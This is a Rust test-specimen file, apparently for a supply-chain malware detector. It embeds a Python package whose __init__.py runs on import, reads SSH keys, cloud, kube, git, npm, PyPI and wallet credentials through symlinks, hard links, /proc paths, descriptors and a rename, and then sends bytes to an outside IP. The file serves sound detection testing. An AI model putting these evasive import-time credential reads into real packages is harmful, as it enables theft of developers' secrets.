//! A wheel that, when it is imported, reaches a different secret by each roundabout way: a symbolic link, a
//! hard link, `/proc/self/root`, a relative path, a folder's descriptor, a descriptor opened anew, a rename.
//! Then it sends random bytes.
//!
//! Must be found: the secret counts, not the name it is opened by.

use crate::{Expect, Specimen, Wheel, build::Package as _};

const PATHSHIM_INIT_PY: &str = r#"import os
import socket

home = os.path.expanduser("~")
got = []


def attempt(way):
    try:
        got.append(way())
    except OSError:
        pass


def read(path, **named):
    file = os.open(path, os.O_RDONLY, **named)
    try:
        return os.read(file, 4096)
    finally:
        os.close(file)


def symbolic():
    os.symlink(home + "/.ssh/id_rsa", "/tmp/.n1")
    return read("/tmp/.n1")


def hard():
    os.link(home + "/.git-credentials", home + "/.n2")
    return read(home + "/.n2")


def relative():
    os.chdir(home + "/.kube")
    return read("../.kube/./config")


def folder():
    at = os.open(home, os.O_PATH | os.O_DIRECTORY)
    return read(".pypirc", dir_fd=at)


def anew():
    file = os.open(home + "/.config/solana/id.json", os.O_PATH)
    return read("/proc/self/fd/%d" % file)


def renamed():
    os.rename(home + "/.npmrc", home + "/notes.txt")
    return read(home + "/notes.txt")


for way in (symbolic, hard, lambda: read("/proc/self/root" + home + "/.aws/credentials"), relative, folder, anew, renamed):
    attempt(way)
os.chdir("/")
try:
    with socket.create_connection(("198.51.100.40", 443), 5) as link:
        link.sendall(os.urandom(64 * len(got)))
except OSError:
    pass
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("pathshim", "1.0.2").file("pathshim/__init__.py", PATHSHIM_INIT_PY);
    package.specimen(
        "pypi-odd-paths",
        Expect::malicious(&["credential-read-then-send"]),
    )
}
